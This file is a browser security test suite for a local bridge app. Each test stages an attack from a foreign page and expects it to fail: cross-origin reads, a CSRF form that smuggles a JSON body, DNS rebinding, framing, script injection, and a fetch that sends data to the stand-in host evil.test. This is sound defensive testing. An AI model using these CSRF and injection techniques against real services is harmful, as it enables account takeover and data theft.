// Each test is an attack by a page in the same browser as a paired one. All attacks must fail.
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { test } from 'node:test';
import { command, control, externalSession, known, lab, openSocket, pair } from './lab.mjs';

const HASH = 'a'.repeat(64);

test('only the page of the bridge can open a WebSocket', () => lab(async ({ own, pages, port }) => {
  assert.match(await own.evaluate(openSocket, `ws://127.0.0.1:${port}/ws`), /^message \{/);
  for (const page of pages) {
    for (const host of ['127.0.0.1', 'localhost', 'evil.test']) {
      assert.equal(await page.evaluate(openSocket, `ws://${host}:${port}/ws`), 'closed 1006', `${page.url()} to ${host}`);
    }
  }
}));

test('foreign pages cannot read responses', () => lab(async ({ pages, origin }) => {
  for (const page of pages) {
    for (const path of ['/', '/api/health', '/metrics', `/api/blobs/${HASH}`, '/api/sessions/a/export.md', '/ws']) {
      const read = await page.evaluate(async (address) => {
        try {
          const answer = await fetch(address, { credentials: 'include' });
          return `${answer.status} ${await answer.text()}`;
        } catch (error) {
          return error.name;
        }
      }, origin + path);
      assert.equal(read, 'TypeError', `${page.url()} ${path}`);
    }
  }
}));

test('foreign pages cannot pair or sign out with any kind of POST request', () => lab(async ({ own, pages, origin, folder }) => {
  const { code } = await control(folder, { do: 'pair', scope: 'admin' });
  const body = JSON.stringify({ code, device: 'x' });
  for (const page of pages) {
    await page.evaluate(async ([base, body]) => {
      const kinds = ['text/plain', 'application/x-www-form-urlencoded', 'application/json', 'image/png', ''];
      const posts = ['/api/pair', '/api/logout', '/api/upload'].flatMap((path) => kinds.flatMap((type) => ['no-cors', 'cors'].map((mode) =>
        fetch(base + path, { method: 'POST', mode, credentials: 'include', body: new Blob([body], { type }) }).catch(() => undefined))));
      await Promise.all(posts);
      navigator.sendBeacon(`${base}/api/pair`, new Blob([body], { type: 'text/plain' }));
    }, [origin, body]);
    for (const path of ['/api/pair', '/api/logout']) {
      const home = page.url();
      const answered = page.waitForResponse((response) => response.url() === origin + path);
      // {"code": …, "device": "x="}: a form whose body is valid JSON.
      await page.evaluate(([address, text]) => {
        const form = document.body.appendChild(document.createElement('form'));
        Object.assign(form, { method: 'POST', action: address, enctype: 'text/plain' });
        const field = form.appendChild(document.createElement('input'));
        Object.assign(field, { name: text.slice(0, -2), value: '"}' });
        form.submit();
      }, [origin + path, body]);
      assert.equal((await answered).status(), 403);
      await page.waitForURL(origin + path);
      await page.goto(home);
    }
  }
  assert.equal((await control(folder, { do: 'devices' })).devices.length, 1);
  assert.equal(await own.evaluate(known), true);
  assert.equal(await own.evaluate(pair, code), 200, 'the pairing code is still valid');
}));

test('a rebound DNS name is rejected', () => lab(async ({ context, port }) => {
  const page = await context.newPage();
  const answer = await page.goto(`http://rebound.test:${port}/`);
  assert.equal(answer.status(), 403);
  const read = await page.evaluate(async () => {
    const answers = await Promise.all(['/api/health', '/metrics', '/ws'].map((path) => fetch(path).then((one) => one.status)));
    return answers;
  });
  assert.deepEqual(read, [403, 403, 403]);
  assert.equal(await page.evaluate(openSocket, `ws://rebound.test:${port}/ws`), 'closed 1006');
}));

test('the page cannot be framed or controlled through its window', () => lab(async ({ pages, origin }) => {
  for (const page of pages) {
    const inside = await page.evaluate((address) => new Promise((done) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      frame.onload = () => {
        let reachable = true;
        try { reachable = frame.contentDocument !== null; } catch { reachable = false; }
        done(reachable);
      };
      document.body.append(frame);
    }), `${origin}/`);
    assert.equal(inside, false);
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    const text = await framed?.evaluate(() => document.body.innerText).catch(() => '');
    assert.doesNotMatch(text ?? '', /Sluice needs|make run/);
    const opened = await page.evaluate((address) => new Promise((done) => {
      const other = window.open(address);
      const look = () => (other === null || other.closed ? done('out of reach') : setTimeout(look, 20));
      look();
    }), `${origin}/`);
    assert.equal(opened, 'out of reach');
  }
}));

test('resources cannot be embedded in foreign pages', () => lab(async ({ pages, origin }) => {
  for (const page of pages) {
    for (const [element, path] of [['script', '/api/health'], ['script', '/sw.js'], ['img', '/icon.svg'], ['img', `/api/blobs/${HASH}`], ['script', '/metrics']]) {
      const outcome = await page.evaluate(([name, address]) => new Promise((done) => {
        const made = document.createElement(name);
        made.onload = () => done('loaded');
        made.onerror = () => done('refused');
        made.src = address;
        document.body.append(made);
      }), [element, origin + path]);
      assert.equal(outcome, 'refused', `${element} ${path} in ${page.url()}`);
    }
  }
}));

test('injected scripts do not run', () => lab(async ({ own, context, origin, foreign }) => {
  const page = await context.newPage();
  await page.goto(`${origin}/`);
  const outcome = await page.evaluate(async (base) => {
    // Code that the debugger runs directly may use eval; code that runs later is restricted like scripts of the page.
    await new Promise((done) => { setTimeout(done, 0); });
    const thrown = (attempt) => { try { attempt(); return 'worked'; } catch (error) { return error.name; } };
    const outcome = {
      markup: thrown(() => { document.body.innerHTML = '<img src=x onerror="window.ran = 1">'; }),
      evaluated: thrown(() => { (0, eval)('window.ran = 1'); }),
      made: thrown(() => { new Function('window.ran = 1')(); }),
      policy: thrown(() => { trustedTypes.createPolicy('anything', { createHTML: (text) => text }); }),
      cookie: document.cookie,
    };
    const inline = document.createElement('script');
    outcome.inline = thrown(() => { inline.text = 'window.ran = 1'; document.head.append(inline); });
    const image = new Image();
    outcome.image = await new Promise((done) => {
      image.onload = () => done('loaded');
      image.onerror = () => done('refused');
      image.src = `${base}/picture`;
    });
    outcome.sent = await fetch(`${base}/take?this`, { mode: 'no-cors' }).then(() => 'sent', () => 'refused');
    outcome.framed = await new Promise((done) => {
      const frame = document.createElement('iframe');
      document.addEventListener('securitypolicyviolation', (event) => event.effectiveDirective === 'frame-src' && done('refused'));
      frame.src = `${base}/frame`;
      document.body.append(frame);
    });
    outcome.ran = 'ran' in window;
    return outcome;
  }, `http://evil.test:${foreign.port}`);
  assert.deepEqual(outcome, {
    markup: 'TypeError', evaluated: 'EvalError', made: 'EvalError', policy: 'TypeError', cookie: '', inline: 'TypeError',
    image: 'refused', sent: 'refused', framed: 'refused', ran: false,
  });
  assert.ok(!foreign.requests.some((request) => /picture|take|frame/.test(request.url)));
  assert.equal(await own.evaluate(() => document.cookie), '');
}));

test('content of agents is downloaded instead of displayed', () => lab(async ({ own, origin, home }) => {
  const markup = '<!doctype html><title>made by an agent</title><script>document.title = "ran"</script>';
  const id = await externalSession(home, markup);
  const receipt = await own.evaluate(command, { type: 'subscribe', sessionId: id });
  assert.equal(receipt.ok, true);
  // Uploads must be images of the declared type.
  const upload = ([type, base64]) => fetch('/api/upload', { method: 'POST', headers: { 'content-type': type }, body: Uint8Array.from(atob(base64), (char) => char.charCodeAt(0)) }).then(async (answer) => ({ status: answer.status, ...(await answer.json().catch(() => ({}))) }));
  for (const type of ['text/html', 'image/svg+xml', 'image/png']) assert.ok((await own.evaluate(upload, [type, btoa(markup)])).status >= 400, type);
  const { hash } = await own.evaluate(upload, ['image/png', 'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAAAElFTkSuQmCC']);
  assert.match(hash, /^[0-9a-f]{64}$/);
  for (const format of ['html', 'md', 'jsonl']) {
    const path = `/api/sessions/${receipt.data.sessionId}/export.${format}`;
    const saving = own.waitForEvent('download');
    await own.evaluate((address) => { location.href = address; }, path);
    const saved = await saving;
    assert.equal(saved.url(), origin + path);
    assert.notEqual(await own.title(), 'ran');
    if (format !== 'html') continue;
    // The saved file runs no scripts either.
    const page = await own.context().newPage();
    const requested = [];
    page.on('request', (request) => requested.push(request.url()));
    const copy = join(home, 'saved.html');
    await saved.saveAs(copy);
    await page.goto(`file://${copy}`);
    assert.notEqual(await page.title(), 'ran');
    assert.equal(await page.locator('script').count(), 0);
    assert.deepEqual(requested.filter((url) => !url.startsWith('file:')), []);
    await page.close();
  }
  const answer = await own.request.get(`${origin}/api/blobs/${hash}`, { headers: { origin } });
  assert.deepEqual([answer.headers()['content-type'], answer.headers()['x-content-type-options']], ['image/png', 'nosniff']);
  assert.match(answer.headers()['content-security-policy'] ?? '', /sandbox|default-src 'none'/);
}));

test('a revoked device is disconnected immediately', () => lab(async ({ own, port, folder }) => {
  const closed = own.evaluate((address) => new Promise((done) => {
    const socket = new WebSocket(address);
    socket.onopen = () => { window.opened = true; };
    socket.onclose = (event) => done(`${event.code} ${event.reason}`);
  }), `ws://127.0.0.1:${port}/ws`);
  await own.waitForFunction(() => window.opened);
  const [device] = (await control(folder, { do: 'devices' })).devices;
  assert.equal(device.online, true);
  await control(folder, { do: 'revoke', device: device.id });
  assert.equal(await closed, '1008 revoked');
  assert.equal(await own.evaluate(known), false);
  assert.equal(await own.evaluate(openSocket, `ws://127.0.0.1:${port}/ws`), 'closed 1006');
}));

test('a link on a foreign page opens the page without an opener', () => lab(async ({ context, pages, origin }) => {
  const follow = async (page) => {
    const home = page.url();
    const answered = page.waitForResponse((response) => response.url() === `${origin}/`);
    await page.evaluate((address) => { location.href = address; }, `${origin}/`);
    const status = (await answered).status();
    await page.waitForURL(`${origin}/**`);
    assert.equal(await page.evaluate(() => window.opener), null);
    await page.goto(home);
    return status;
  };
  // 503 if no page is embedded in the binary.
  const own = await context.newPage();
  const expected = (await own.goto(`${origin}/`)).status();
  assert.ok(expected === 200 || expected === 503, String(expected));
  for (const page of pages) assert.equal(await follow(page), expected);
  if (expected !== 200) return;
  // Again, with the service worker handling the request.
  await own.evaluate(() => navigator.serviceWorker.ready);
  await own.reload();
  assert.ok(await own.evaluate(() => navigator.serviceWorker.controller !== null));
  for (const page of pages) assert.equal(await follow(page), 200, 'through the service worker');
}));

test('the page does not violate its own policies', () => lab(async ({ context, origin }) => {
  const page = await context.newPage();
  const broken = [];
  page.on('console', (message) => /Content Security Policy|Trusted|Permissions-Policy/.test(message.text()) && broken.push(message.text()));
  page.on('pageerror', (error) => broken.push(error.message));
  page.on('response', (answer) => new URL(answer.url()).pathname !== '/ws' && answer.status() >= 400 && answer.status() !== 503 && broken.push(`${answer.status()} ${answer.url()}`));
  await page.goto(`${origin}/`, { waitUntil: 'networkidle' });
  assert.deepEqual(broken, []);
}));
